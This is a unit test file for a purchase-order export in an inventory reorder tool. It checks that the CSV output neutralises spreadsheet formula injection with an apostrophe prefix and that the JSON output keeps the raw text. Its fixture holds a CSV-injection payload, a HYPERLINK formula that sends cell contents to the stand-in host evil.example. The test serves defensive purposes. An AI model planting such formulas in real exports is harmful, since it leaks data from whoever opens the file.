import { describe, expect, it } from 'vitest';
import { ordersToCsv, ordersToJson } from '../../../src/lib/export';
import { approveOrders, runReorder } from '../../../src/lib/reorder';
import type { InventoryItem } from '../../../src/lib/dataset/types';
import type { ItemForecast } from '../../../src/lib/reorder';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('purchase-order export of an item whose key begins with =', () => {
  it('CSV: header as the Orders tab writes it, and the formula key cells prefixed with an apostrophe; JSON keeps the text as is', () => {
    const item: InventoryItem = { seriesId: EVIL, key: { Store: '@SUM(1+1)', Item: EVIL }, onHand: 0, onOrder: 0, backorders: 0, leadTimeDays: 7, leadTimeStdDays: 0, unitCost: 2, moq: 1, packSize: 1, serviceLevel: 0.95, defaulted: [] };
    const fc: ItemForecast = { seriesId: EVIL, periodDays: 1, firstDay: 19000, mean: new Float64Array(30).fill(5), quantileLevels: [], quantiles: [], errorSigma: new Float64Array([1]), historyPeriods: 365 };
    const result = runReorder({ items: [item], forecasts: [fc] });
    const orders = approveOrders(result, [item], { approvedAt: Date.UTC(2025, 0, 2) });
    expect(orders).toHaveLength(1);
    const lines = ordersToCsv(orders).trim().split('\r\n');
    expect(lines[0]).toBe('Store,Item,id,seriesId,quantity,recommendedQuantity,unitCost,value,orderDate,expectedArrivalDate,status,explanation');
    const cells = lines[1].split(',');
    expect(cells[0]).toBe("'@SUM(1+1)");
    expect(cells[1].startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(lines[1]).not.toMatch(/(^|,)"?[=@+-]/);
    const doc = JSON.parse(ordersToJson(orders, Date.UTC(2025, 0, 2)));
    expect(doc).toMatchObject({ schema: 'shelfcast.purchase-orders', version: 1, count: 1 });
    expect(doc.orders[0].key.Item).toBe(EVIL);
  });
});
